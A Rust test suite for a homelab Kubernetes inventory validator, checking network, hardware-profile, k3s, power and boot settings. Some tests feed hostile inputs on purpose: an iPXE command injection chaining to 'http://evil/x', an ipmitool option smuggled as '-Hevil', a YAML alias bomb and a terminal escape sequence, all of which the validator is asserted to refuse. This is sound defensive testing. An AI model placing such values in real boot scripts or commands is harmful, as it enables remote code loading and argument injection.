//! One test per validation rule. Each starts from the default inventory (which is valid), breaks
//! exactly one thing, and asserts the diagnostic for it: removing the rule fails its test.

mod common;

use builder::diag::{Diagnostic, Diagnostics};
use builder::inventory::{self, DEFAULT_INVENTORY, ProfileSet};
use builder::templates::Templates;

fn check_with(text: &str, extra_profiles: &[(&str, &str)]) -> Diagnostics {
    let mut d = Diagnostics::default();
    let mut set = ProfileSet::load(&[], &mut d);
    for (f, t) in extra_profiles {
        set.add(f, t, &mut d);
    }
    let (inv, more) = inventory::load("inv.yaml", text, &set, &Templates::embedded());
    assert_eq!(
        inv.is_some(),
        !more.has_errors(),
        "model returned iff no errors"
    );
    d.extend(more);
    d
}

fn check(text: &str) -> Diagnostics {
    check_with(text, &[])
}

/// The default inventory with the first occurrence of `from` replaced.
fn mutate(from: &str, to: &str) -> String {
    assert!(
        DEFAULT_INVENTORY.contains(from),
        "fixture text `{from}` not found"
    );
    DEFAULT_INVENTORY.replacen(from, to, 1)
}

fn error<'a>(d: &'a Diagnostics, path: &str, msg: &str) -> &'a Diagnostic {
    d.errors()
        .find(|e| e.path == path && e.message.contains(msg))
        .unwrap_or_else(|| {
            panic!(
                "no error at `{path}` containing `{msg}`; got:\n{}",
                d.render(&|_| None)
            )
        })
}

#[test]
fn default_inventory_is_valid_with_one_warning_about_the_example_key() {
    let d = check(DEFAULT_INVENTORY);
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
    let w: Vec<_> = d.warnings().collect();
    assert_eq!(w.len(), 1, "{}", d.render(&|_| None));
    assert!(w[0].message.contains("example key"));
}

#[test]
fn yaml_syntax_error_reports_its_line() {
    let text = mutate("  subnet: 10.0.20.0/24", "  subnet: [10.0.20.0/24");
    let d = check(&text);
    let e = d.errors().next().expect("an error");
    let line = text
        .lines()
        .position(|l| l.contains("[10.0.20.0/24"))
        .unwrap() as u64
        + 1;
    assert!(
        e.span.line >= line,
        "syntax error at line {} before the broken line {line}",
        e.span.line
    );
    assert_eq!(e.span.file, "inv.yaml");
}

#[test]
fn unknown_keys_are_named_all_at_once() {
    let text = mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    macc: x\n",
    )
    .replacen(
        "    profile: r630\n",
        "    profile: r630\n    colour: red\n",
        1,
    )
    .replacen(
        "  gateway: 10.0.20.1\n",
        "  gateway: 10.0.20.1\n  gatway: 1\n",
        1,
    );
    let d = check(&text);
    let e = error(&d, "nodes[3]", "unknown field `macc`");
    assert!(e.span.line > 0 && e.span.column > 0);
    error(&d, "nodes[5]", "unknown field `colour`");
    error(&d, "network", "unknown field `gatway`");
}

#[test]
fn wrong_type_is_reported_with_location() {
    let d = check(&mutate("    retention: 10", "    retention: ten"));
    let e = d.errors().next().unwrap();
    assert_eq!(e.path, "cluster");
    assert!(e.span.line > 0);
}

#[test]
fn duplicate_hostname() {
    let d = check(&mutate("hostname: k3s2", "hostname: k3s1"));
    error(&d, "nodes[4].hostname", "duplicate hostname `k3s1`");
}

#[test]
fn duplicate_mac_names_both_nodes() {
    let d = check(&mutate("mac: d8:9e:f3:20:00:22", "mac: D8-9E-F3-20-00-21"));
    let e = error(&d, "nodes[4].mac", "duplicate MAC d8:9e:f3:20:00:21");
    assert!(
        e.message.contains("`k3s2`") && e.message.contains("`k3s1`"),
        "{}",
        e.message
    );
}

#[test]
fn duplicate_mac_across_extra_macs() {
    let d = check(&mutate(
        "extra_macs: [24:6e:96:20:00:24]",
        "extra_macs: [24:6e:96:20:00:30]",
    ));
    error(&d, "nodes[6].mac", "duplicate MAC 24:6e:96:20:00:30");
}

#[test]
fn duplicate_ip() {
    let d = check(&mutate("ip: 10.0.20.22", "ip: 10.0.20.21"));
    error(&d, "nodes[4].ip", "duplicate IP 10.0.20.21");
}

#[test]
fn node_ip_equal_to_appliance_is_a_duplicate() {
    let d = check(&mutate("ip: 10.0.20.22", "ip: 10.0.20.5"));
    error(&d, "nodes[4].ip", "the appliance");
}

#[test]
fn ip_outside_subnet() {
    let d = check(&mutate("ip: 10.0.20.22", "ip: 10.0.21.22"));
    error(
        &d,
        "nodes[4].ip",
        "not a host address of subnet 10.0.20.0/24",
    );
}

#[test]
fn ip_inside_dhcp_pool() {
    let d = check(&mutate("ip: 10.0.20.22", "ip: 10.0.20.210"));
    error(&d, "nodes[4].ip", "inside the DHCP pool");
}

#[test]
fn vip_outside_subnet() {
    let d = check(&mutate("vip: 10.0.20.10", "vip: 10.0.99.10"));
    error(&d, "cluster.api.vip", "outside subnet");
}

#[test]
fn vip_equal_to_a_node_ip() {
    let d = check(&mutate("vip: 10.0.20.10", "vip: 10.0.20.12"));
    error(&d, "nodes[1].ip", "is the API VIP");
}

#[test]
fn vip_inside_dhcp_pool() {
    let d = check(&mutate("vip: 10.0.20.10", "vip: 10.0.20.220"));
    error(&d, "cluster.api.vip", "inside the DHCP pool");
}

/// `secure_boot` nodes (the two OptiPlex: their profile's default) and no `dhcp_pool` warn,
/// naming the nodes and both fixes: in pxe's default proxy mode Debian's signed GRUB never finds
/// its config (docs/secure-boot.md "Network boot", its DHCP mode paragraph). With a pool (the
/// default inventory), or with no `secure_boot` node, nothing is said.
#[test]
fn secure_boot_nodes_without_a_dhcp_pool_warn_about_proxy_mode() {
    let pool = "  dhcp_pool:\n    start: 10.0.20.200\n    end: 10.0.20.249\n";
    let d = check(&mutate(pool, ""));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
    let w: Vec<_> = d
        .warnings()
        .filter(|w| w.path == "network.dhcp_pool")
        .collect();
    assert_eq!(w.len(), 1, "{}", d.render(&|_| None));
    let m = &w[0].message;
    for want in [
        "--dhcp proxy",
        "grub>",
        "pxe serve --dhcp full",
        "next-server",
        "10.0.20.5",
        "k3s1, k3s2",
    ] {
        assert!(m.contains(want), "{want:?} in {m}");
    }
    let subnet = DEFAULT_INVENTORY
        .lines()
        .position(|l| l.starts_with("  subnet:"))
        .unwrap();
    assert_eq!(
        w[0].span.line as usize,
        subnet + 1,
        "at network.subnet: {}",
        w[0].span
    );

    // Both OptiPlex with Secure Boot off: no warning.
    let text = mutate(pool, "").replace(
        "    profile: optiplex\n",
        "    profile: optiplex\n    secure_boot: false\n",
    );
    let d = check(&text);
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
    assert!(
        !d.warnings().any(|w| w.path == "network.dhcp_pool"),
        "{}",
        d.render(&|_| None)
    );
}

fn with_servers(n: usize) -> String {
    let mut text = DEFAULT_INVENTORY.to_string();
    // Turn servers into agents from the end until `n` remain (3 servers in the default).
    for i in (n + 1..=3).rev() {
        let from = format!("  - hostname: k3s-master{i}\n    role: server");
        let to = format!("  - hostname: k3s-master{i}\n    role: agent");
        assert!(text.contains(&from));
        text = text.replacen(&from, &to, 1);
    }
    let mut extra = String::new();
    for i in 4..=n {
        extra.push_str(&format!(
            "  - hostname: extra{i}\n    role: server\n    profile: vm\n    mac: 52:54:00:20:01:{i:02}\n    ip: 10.0.20.{}\n",
            100 + i
        ));
    }
    text.replacen("\nnfs:\n", &format!("{extra}\nnfs:\n"), 1)
}

#[test]
fn server_count_even_is_rejected() {
    for n in [2, 4] {
        let d = check(&with_servers(n));
        error(&d, "nodes", &format!("{n} servers"));
    }
}

#[test]
fn server_count_one_is_a_not_ha_warning() {
    let d = check(&with_servers(1));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
    assert!(
        d.warnings()
            .any(|w| w.message.contains("NOT highly available"))
    );
}

#[test]
fn server_count_zero_is_rejected_and_five_is_fine() {
    let d = check(&with_servers(0));
    error(&d, "nodes", "no node has role server");
    let d = check(&with_servers(5));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
}

#[test]
fn hostname_not_rfc1123() {
    let d = check(&mutate("hostname: k3s2", "hostname: K3s_2"));
    error(&d, "nodes[4].hostname", "not an RFC 1123 host name");
}

#[test]
fn unknown_hardware_profile() {
    let d = check(&mutate("profile: r630", "profile: r640"));
    error(&d, "nodes[5].profile", "unknown hardware profile `r640`");
}

#[test]
fn unknown_template() {
    let d = check(&mutate(
        "    profile: r630\n",
        "    profile: r630\n    template: cloud-init/gpu.yaml.j2\n",
    ));
    error(
        &d,
        "nodes[5].template",
        "unknown template `cloud-init/gpu.yaml.j2`",
    );
}

#[test]
fn gpu_settings_on_a_profile_without_gpu() {
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    gpu:\n      default_runtime: true\n",
    ));
    error(&d, "nodes[3].gpu", "has no GPU");
}

#[test]
fn missing_ssh_key() {
    let text = DEFAULT_INVENTORY
        .lines()
        .filter(|l| !l.contains("replace-me@ironseed"))
        .collect::<Vec<_>>()
        .join("\n")
        .replacen("  authorized_keys:", "  authorized_keys: []", 1);
    let d = check(&text);
    error(&d, "ssh.authorized_keys", "no SSH key");
}

#[test]
fn unparsable_ssh_key() {
    let d = check(&mutate(
        "AAAAC3NzaC1lZDI1NTE5AAAAIOr/he6fVuOiPFs8Yz5tzRAXQrg0RxhT9MwdzTxdyC6i",
        "AAAAC3NzaC1lZDI1NTE5AAAAIOr/he6f",
    ));
    error(&d, "ssh.authorized_keys[0]", "key data");
}

const PROFILE_SHARED_DISK: &str = "name: shared
firmware: uefi
dhcp_arch: 7
boot_nic: {name: eno1}
install_disk:
  model: Samsung SSD 980
data_disks:
  - name: fast
    purpose: longhorn
    selector:
      model: Samsung SSD 980
";

#[test]
fn data_disk_that_is_also_the_install_disk() {
    let d = check_with(
        &mutate("profile: optiplex", "profile: shared"),
        &[("hw/shared.yaml", PROFILE_SHARED_DISK)],
    );
    let e = error(&d, "data_disks[0].selector", "could be the install disk");
    assert_eq!(e.span.file, "hw/shared.yaml");
    assert_eq!(e.span.line, 11, "the selector of data_disks[0]");
}

#[test]
fn bare_device_name_is_refused_in_a_profile() {
    let p = PROFILE_SHARED_DISK.replacen(
        "  model: Samsung SSD 980\ndata",
        "  device: /dev/sda\ndata",
        1,
    );
    let d = check_with(DEFAULT_INVENTORY, &[("hw/shared.yaml", &p)]);
    error(&d, "install_disk.device", "kernel device name");
}

#[test]
fn firmware_and_dhcp_arch_must_agree() {
    let p = PROFILE_SHARED_DISK
        .replacen("dhcp_arch: 7", "dhcp_arch: 0", 1)
        .replacen("      model: Samsung SSD 980\n", "      model: Other\n", 1);
    let d = check_with(DEFAULT_INVENTORY, &[("hw/shared.yaml", &p)]);
    error(&d, "dhcp_arch", "does not match firmware");
}

#[test]
fn k3s_override_keys_must_be_real_flags() {
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    overrides:\n      k3s:\n        kubelet-args: [max-pods=200]\n",
    ));
    error(
        &d,
        "nodes[3].overrides.k3s.kubelet-args",
        "not a k3s agent flag",
    );
    // A server-only flag on an agent is the silent-skip case too.
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    overrides:\n      k3s:\n        cluster-cidr: 10.1.0.0/16\n",
    ));
    error(
        &d,
        "nodes[3].overrides.k3s.cluster-cidr",
        "not a k3s agent flag",
    );
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    overrides:\n      k3s:\n        kubelet-arg: [max-pods=200]\n",
    ));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
}

#[test]
fn managed_k3s_keys_cannot_be_overridden() {
    let d = check(&mutate(
        "    memory_mb: 4096\n    mac: 52:54:00:20:00:12",
        "    memory_mb: 4096\n    overrides:\n      k3s:\n        cluster-cidr: 10.1.0.0/16\n    mac: 52:54:00:20:00:12",
    ));
    error(&d, "nodes[1].overrides.k3s.cluster-cidr", "set by ironseed");
}

#[test]
fn pod_and_service_cidrs_must_not_overlap() {
    let d = check(&mutate(
        "service_cidr: 10.43.0.0/16",
        "service_cidr: 10.42.128.0/17",
    ));
    error(&d, "cluster.service_cidr", "overlaps pod CIDR");
    let d = check(&mutate("pod_cidr: 10.42.0.0/16", "pod_cidr: 10.0.0.0/8"));
    error(&d, "cluster.pod_cidr", "overlaps the node subnet");
}

#[test]
fn labels_in_the_kubelet_reserved_namespace_are_refused() {
    let d = check(&mutate(
        "      homelab/storage: tiered",
        "      node-role.kubernetes.io/worker: \"true\"",
    ));
    error(
        &d,
        "nodes[5].labels.node-role.kubernetes.io/worker",
        "kubelet refuses",
    );
}

#[test]
fn nfs_export_must_name_an_nfs_pool_disk() {
    let d = check(&mutate("      pool: media", "      pool: music"));
    error(&d, "nfs.exports[0].pool", "no data disk `music`");
}

#[test]
fn unpinned_k3s_version_is_refused() {
    let d = check(&mutate("version: v1.31.4+k3s1", "version: latest"));
    error(&d, "cluster.k3s.version", "not a k3s release name");
}

#[test]
fn k3s_channel_instead_of_version_warns_and_both_is_an_error() {
    let d = check(&mutate("version: v1.31.4+k3s1", "channel: stable"));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
    assert!(
        d.warnings()
            .any(|w| w.path == "cluster.k3s.channel" && w.message.contains("pin"))
    );
    let d = check(&mutate(
        "version: v1.31.4+k3s1",
        "version: v1.31.4+k3s1\n    channel: stable",
    ));
    error(&d, "cluster.k3s.channel", "not both");
    let d = check(&mutate("version: v1.31.4+k3s1", "airgap: null"));
    error(&d, "cluster.k3s", "set cluster.k3s.version");
}

#[test]
fn every_problem_is_reported_at_once() {
    let text = mutate("ip: 10.0.20.22", "ip: 10.0.21.22")
        .replacen("hostname: k3s1", "hostname: K3S1", 1)
        .replacen("vip: 10.0.20.10", "vip: 10.0.20.220", 1)
        .replacen("profile: r630", "profile: nope", 1);
    let d = check(&text);
    assert!(d.errors().count() >= 4, "{}", d.render(&|_| None));
    error(&d, "nodes[4].ip", "not a host address");
    error(&d, "nodes[3].hostname", "RFC 1123");
    error(&d, "cluster.api.vip", "DHCP pool");
    error(&d, "nodes[5].profile", "unknown hardware profile");
}

#[test]
fn report_has_file_line_column_and_a_caret() {
    let text = mutate("ip: 10.0.20.22", "ip: 10.0.21.22");
    let d = check(&text);
    let out = d.render(&|_| Some(text.clone()));
    let line = text.lines().position(|l| l.contains("10.0.21.22")).unwrap() + 1;
    assert!(out.contains(&format!("error: inv.yaml:{line}:")), "{out}");
    assert!(out.contains("^"), "{out}");
    assert!(out.contains("1 error(s)"), "{out}");
}

/// `builder validate --inventory FILE` on `bytes`, in a fresh folder: (exit code, stderr).
fn validate_file(bytes: &[u8]) -> (Option<i32>, String) {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("inv.yaml"), bytes).unwrap();
    let o = common::builder_cmd(&["validate", "--inventory", "inv.yaml"])
        .current_dir(d.path())
        .output()
        .unwrap();
    (o.status.code(), common::stderr(&o))
}

/// Protects the FILE:LINE:COLUMN promise for bytes that are not UTF-8 (was: "stream did not
/// contain valid UTF-8" with no position).
#[test]
fn non_utf8_byte_is_reported_with_line_and_column() {
    let text = mutate("  name: homelab", "  name: home\u{1}lab");
    let line = text.lines().position(|l| l.contains('\u{1}')).unwrap() + 1;
    let bytes = text.replacen('\u{1}', "\u{fffd}", 1).into_bytes();
    // U+FFFD is EF BF BD: its first byte alone is not UTF-8.
    let at = bytes
        .windows(3)
        .position(|w| w == [0xef, 0xbf, 0xbd])
        .unwrap();
    let mut bytes = bytes;
    bytes.splice(at..at + 3, [0xff]);
    let (code, err) = validate_file(&bytes);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains(&format!("inv.yaml:{line}:13: byte 0xff is not valid UTF-8")),
        "{err}"
    );
    assert!(!err.contains("stream did not contain"), "{err}");
}

/// Protects plain wording for the parser's alias/size limits (was: "budget breached: Nodes {
/// nodes: 250001 }"): the message names the limit, and the position of the expansion.
#[test]
fn alias_bomb_is_refused_in_plain_words_with_its_place() {
    let mut bomb = String::from("bomb0: &b0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..8 {
        let refs = vec![format!("*b{}", i - 1); 10].join(", ");
        bomb.push_str(&format!("bomb{i}: &b{i} [{refs}]\n"));
    }
    let text = format!("{DEFAULT_INVENTORY}{bomb}");
    let d = check(&text);
    let e = d.errors().next().expect("refused");
    assert!(
        e.message
            .contains("expands to more than 250,000 YAML values (aliases"),
        "{e}"
    );
    assert!(
        !e.message.contains("budget") && !e.message.contains('{'),
        "{e}"
    );
    let first_bomb_line = DEFAULT_INVENTORY.lines().count() as u64 + 1;
    assert!(e.span.line > first_bomb_line && e.span.column > 0, "{e}");
    let (code, err) = validate_file(text.as_bytes());
    assert_eq!(code, Some(1));
    assert!(err.contains("YAML values (aliases"), "{err}");
    assert!(err.len() < 2000, "{err}");
}

/// Protects the terminal from values echoed whole (was: a 20 MB scalar printed twice, 38 MiB of
/// stderr): messages and source snippets cut values to a readable length with their size.
#[test]
fn huge_values_are_cut_in_error_messages() {
    let huge = "x".repeat(20_000_000);
    let text = mutate("  name: homelab", &format!("  name: {huge}"));
    let (code, err) = validate_file(text.as_bytes());
    assert_eq!(code, Some(1));
    assert!(err.len() < 4096, "{} bytes of stderr", err.len());
    assert!(err.contains("cluster.name: `xxxx"), "{err}");
    assert!(err.contains("…(20000000 bytes)"), "{err}");
    // Control characters in a value are escaped, not sent to the terminal.
    let d = check(&mutate("  name: homelab", "  name: \"a\\e[2Jb\""));
    let e = error(&d, "cluster.name", "must be");
    assert!(e.message.contains("a\\u{1b}[2Jb"), "{e}");
}

// ---- power: ----

fn with_power(block: &str) -> String {
    mutate(
        "    profile: optiplex\n",
        &format!("    profile: optiplex\n    power:\n{block}"),
    )
}

#[test]
fn power_blocks_of_every_driver_validate() {
    for block in [
        "      wol: {}\n",
        "      wol: {broadcast: 10.0.20.255, interface: eno1}\n",
        "      ipmi: {address: 10.0.20.200}\n",
        "      manual: {}\n",
        "      redfish: {address: idrac-k3s1, insecure_tls: true}\n",
        &format!(
            "      redfish: {{address: 'https://10.0.20.201:443', fingerprint: '{}', system: System.Embedded.1}}\n",
            "ab".repeat(32)
        ),
    ] {
        let d = check(&with_power(block));
        assert!(!d.has_errors(), "{block}: {}", d.render(&|_| None));
    }
}

#[test]
fn power_needs_exactly_one_driver() {
    let d = check(&with_power("      wol: {}\n      manual: {}\n"));
    error(&d, "nodes[3].power", "exactly one power driver");
}

#[test]
fn redfish_and_ipmi_need_an_address() {
    let d = check(&with_power("      ipmi: {}\n"));
    error(&d, "nodes[3].power.ipmi", "`address:`");
    let d = check(&with_power("      redfish: {insecure_tls: true}\n"));
    error(&d, "nodes[3].power.redfish", "`address:`");
}

/// Protects ipmitool's argument list: an address that reads as an option is refused.
#[test]
fn bmc_address_cannot_be_an_option() {
    let d = check(&with_power("      ipmi: {address: '-Hevil'}\n"));
    let e = error(&d, "nodes[3].power.ipmi.address", "not a BMC address");
    assert_eq!(e.span.file, "inv.yaml");
    assert!(e.span.line > 90, "points into the node: {}", e.span.line);
}

/// Protects the BMC credentials: without a CA, a pinned fingerprint or an explicit
/// `insecure_tls: true`, any certificate would be accepted.
#[test]
fn redfish_tls_must_be_verifiable_unless_insecure_is_written() {
    let d = check(&with_power("      redfish: {address: idrac-k3s1}\n"));
    error(&d, "nodes[3].power.redfish", "must be verifiable");
    let d = check(&with_power("      redfish: {address: 'http://idrac'}\n"));
    error(&d, "nodes[3].power.redfish.address", "plain http");
    let d = check(&with_power(
        "      redfish: {address: idrac, fingerprint: 'abcd'}\n",
    ));
    error(&d, "nodes[3].power.redfish.fingerprint", "SHA-256");
}

#[test]
fn wol_only_on_the_appliance_segment() {
    let d = check(&with_power("      wol: {broadcast: 10.0.30.255}\n"));
    error(
        &d,
        "nodes[3].power.wol.broadcast",
        "not on the appliance's segment",
    );
    let d = check(&with_power("      wol: {interface: 'a/b'}\n"));
    error(
        &d,
        "nodes[3].power.wol.interface",
        "not a Linux interface name",
    );
}

/// The built-in optiplex profile renamed, plus a `power:` default.
/// The optiplex profile renamed, without its own `power:` default (each test appends one).
fn powered_profile() -> String {
    let p =
        include_str!("../../hardware/optiplex.yaml").replacen("name: optiplex", "name: shared", 1);
    assert!(
        p.contains("power:\n  wol: {}\n"),
        "optiplex's default changed"
    );
    p.replacen("power:\n  wol: {}\n", "", 1)
}

/// The built-in profiles' defaults (docs/power.md): optiplex wakes on LAN; the servers and
/// VMs have none (a BMC address is per machine).
#[test]
fn builtin_profile_power_defaults() {
    use builder::inventory::model::Power;
    let mut d = Diagnostics::default();
    let set = ProfileSet::load(&[], &mut d);
    let (inv, more) = inventory::load("inv.yaml", DEFAULT_INVENTORY, &set, &Templates::embedded());
    let inv = inv.unwrap_or_else(|| panic!("{}", more.render(&|_| None)));
    for n in &inv.nodes {
        let want = (n.profile.name == "optiplex").then_some(Power::Wol {
            broadcast: None,
            interface: None,
        });
        assert_eq!(n.power, want, "{}", n.hostname);
    }
    assert!(inv.nodes.iter().any(|n| n.profile.name == "optiplex"));
}

#[test]
fn profile_power_default_is_validated_in_its_file_and_applies_to_its_nodes() {
    let p = powered_profile() + "power:\n  ipmi: {}\n";
    let d = check_with(
        &mutate("profile: optiplex", "profile: shared"),
        &[("hw/shared.yaml", &p)],
    );
    let e = error(&d, "power.ipmi", "`address:`");
    assert_eq!(e.span.file, "hw/shared.yaml");

    let p = powered_profile() + "power:\n  wol: {broadcast: 192.168.1.255}\n";
    let d = check_with(
        &mutate("profile: optiplex", "profile: shared"),
        &[("hw/shared.yaml", &p)],
    );
    error(&d, "nodes[3].profile", "the profile's power default");

    let p = powered_profile() + "power:\n  wol: {}\n";
    let text = mutate("profile: optiplex", "profile: shared");
    let mut d = Diagnostics::default();
    let mut set = ProfileSet::load(&[], &mut d);
    set.add("hw/shared.yaml", &p, &mut d);
    let (inv, more) = inventory::load("inv.yaml", &text, &set, &Templates::embedded());
    let inv = inv.unwrap_or_else(|| panic!("{}", more.render(&|_| None)));
    use builder::inventory::model::Power;
    assert_eq!(
        inv.nodes[3].power,
        Some(Power::Wol {
            broadcast: None,
            interface: None
        })
    );
    assert_eq!(inv.nodes[0].power, None, "vm profile has no default");
}

/// Protects the iPXE install script and the GRUB line: a kernel argument with a space, a
/// newline, a quote or `${…}` would split into several arguments or inject a script command.
#[test]
fn kernel_arguments_are_single_safe_tokens() {
    for bad in [
        "console=ttyS1 quiet",
        "a\\nchain http://evil/x",
        "x=${net0/ip}",
        "x=\\\"y\\\"",
        "x='y'",
    ] {
        let p = PROFILE_SHARED_DISK
            .replacen("      model: Samsung SSD 980\n", "      model: Other\n", 1)
            .to_string()
            + &format!("installer_kernel_args: [\"{bad}\"]\n");
        let d = check_with(DEFAULT_INVENTORY, &[("hw/shared.yaml", &p)]);
        error(&d, "installer_kernel_args[0]", "kernel argument");
        let d = check(&mutate(
            "    profile: optiplex\n",
            &format!("    profile: optiplex\n    overrides:\n      kernel_args: [\"{bad}\"]\n"),
        ));
        error(&d, "nodes[3].overrides.kernel_args[0]", "kernel argument");
    }
    let many = (0..33)
        .map(|i| format!("a{i}=1"))
        .collect::<Vec<_>>()
        .join(", ");
    let d = check(&mutate(
        "    profile: optiplex\n",
        &format!("    profile: optiplex\n    overrides:\n      installer_kernel_args: [{many}]\n"),
    ));
    error(
        &d,
        "nodes[3].overrides.installer_kernel_args[32]",
        "more than 32",
    );
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    overrides:\n      installer_kernel_args: [\"console=ttyS1,115200n8\", pci=realloc]\n",
    ));
    assert!(!d.has_errors(), "{}", d.render(&|_| None));
}

#[test]
fn efi_boot_file_is_a_known_uefi_file_on_uefi_profiles() {
    let d = check(&mutate(
        "    profile: optiplex\n",
        "    profile: optiplex\n    overrides:\n      efi_boot_file: grubx64.efi\n",
    ));
    error(
        &d,
        "nodes[3].overrides.efi_boot_file",
        "not a UEFI boot file",
    );
    // vm is a bios profile: it boots undionly.kpxe.
    let d = check(&mutate(
        "    profile: vm\n",
        "    profile: vm\n    overrides:\n      efi_boot_file: snponly.efi\n",
    ));
    error(&d, "nodes[0].overrides.efi_boot_file", "uefi profiles");
}

/// The per-profile boot quirk reaches the model: r630/r730 nodes boot `snponly.efi`, optiplex
/// ones `ipxe.efi`, a node override wins, and bios nodes name none (pxe's default applies).
#[test]
fn efi_boot_file_comes_from_the_profile_and_the_node_override() {
    use images::bundle::EfiBootFile;
    let text = mutate(
        "    profile: optiplex\n    mac: d8:9e:f3:20:00:22\n",
        "    profile: optiplex\n    mac: d8:9e:f3:20:00:22\n    overrides:\n      efi_boot_file: snponly.efi\n",
    );
    let mut d = Diagnostics::default();
    let set = ProfileSet::load(&[], &mut d);
    let (inv, more) = inventory::load("inv.yaml", &text, &set, &Templates::embedded());
    assert!(!more.has_errors(), "{}", more.render(&|_| None));
    let inv = inv.unwrap();
    let of = |h: &str| {
        inv.nodes
            .iter()
            .find(|n| n.hostname.as_str() == h)
            .unwrap()
            .efi_boot_file
    };
    assert_eq!(of("k3s3"), Some(EfiBootFile::SnpOnly), "r630");
    assert_eq!(of("nfs1"), Some(EfiBootFile::SnpOnly), "r730");
    assert_eq!(of("k3s1"), Some(EfiBootFile::Ipxe), "optiplex");
    assert_eq!(
        of("k3s2"),
        Some(EfiBootFile::SnpOnly),
        "optiplex with override"
    );
    assert_eq!(of("k3s-master1"), None, "vm (bios)");
}

/// A profile whose NIC or disk driver the installer environment does not carry is a warning
/// (the installer would see no network or no disk there), naming the driver and the fix; a
/// name that is not a module name is an error. The built-in profiles' drivers are all packed
/// (the default inventory's only warning is the example key).
#[test]
fn a_profile_driver_missing_from_the_installer_warns() {
    let p = PROFILE_SHARED_DISK
        .replacen("      model: Samsung SSD 980\n", "      model: Other\n", 1)
        .to_string()
        + "drivers: [bnx2x, qede, r8169, \"a b\"]\n";
    let d = check_with(DEFAULT_INVENTORY, &[("hw/shared.yaml", &p)]);
    let w: Vec<_> = d
        .warnings()
        .filter(|w| w.message.contains("installer environment"))
        .collect();
    assert_eq!(w.len(), 1, "{}", d.render(&|_| None));
    assert_eq!(w[0].path, "drivers[1]");
    assert!(w[0].message.contains("--driver qede"), "{}", w[0].message);
    assert_eq!(w[0].span.file, "hw/shared.yaml");
    error(&d, "drivers[3]", "not a kernel module name");
}
